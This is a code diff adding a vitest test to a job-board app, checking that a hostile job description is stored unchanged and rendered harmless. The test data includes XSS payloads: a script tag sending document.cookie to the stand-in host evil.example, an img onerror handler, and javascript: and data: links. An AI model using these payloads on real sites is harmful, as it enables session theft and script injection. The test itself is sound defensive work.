@@ -1,7 +1,10 @@
 import fs from "node:fs";
 import path from "node:path";
 import { eq, sql } from "drizzle-orm";
+import { createElement } from "react";
+import { renderToStaticMarkup } from "react-dom/server";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { Description } from "@/components/description";
 import { seedDatabase } from "@/db/seed";
 import { companyInvites, jobSkills, jobs, savedJobs, skills, users } from "@/db/schema";
 import { getGuideFigures, levelPay } from "@/lib/guides/queries";
@@ -305,6 +308,27 @@ describe(`posting validation (${process.env.TEST_DB})`, () => {
       const [row] = await t.db.select({ usd: jobs.salaryMinUsd }).from(jobs).where(eq(jobs.id, r.value.id));
       expect(row!.usd, `${amount} ${currency}/${period}`).toBe(annualUsd(amount, currency, period));
     }
+  });
+});
+
+describe(`descriptions (${process.env.TEST_DB})`, () => {
+  it("stores a hostile description as typed and renders it inert on the listing", async () => {
+    const hostile = [
+      "Join us! <script>document.location='https://evil.example/?c='+document.cookie</script>",
+      '<img src=x onerror="alert(1)"> <a href="javascript:alert(1)">x</a>',
+      "[click me](javascript:alert(1)) [data](data:text/html;base64,PHNjcmlwdD4=) [ok](https://acme.example/team)",
+    ].join("\n\n");
+    const made = await recruiterOps.createJob(t.db, ids.owner, { ...validJob({ title: "Hostile Markdown Backend Engineer", description: hostile }), companyId: companyA, publish: true });
+    if (!made.ok) throw new Error(JSON.stringify(made));
+    const job = (await getJobBySlug(made.value.slug, t.db))!;
+    expect(job.description).toBe(hostile);
+    const out = renderToStaticMarkup(createElement(Description, { text: job.description }));
+    expect(out).not.toMatch(/<(script|img|iframe)/i);
+    // Text is escaped, so every "<" opens a real element: none may carry an event handler.
+    for (const [tag] of out.matchAll(/<[a-z][^>]*>/gi)) expect(tag).not.toMatch(/\son\w+=/i);
+    expect(out).not.toMatch(/href="(javascript|data):/i);
+    expect(out).toContain('<a href="https://acme.example/team" rel="noopener nofollow ugc"');
+    expect(out).toContain("&lt;script&gt;");
   });
 });
 
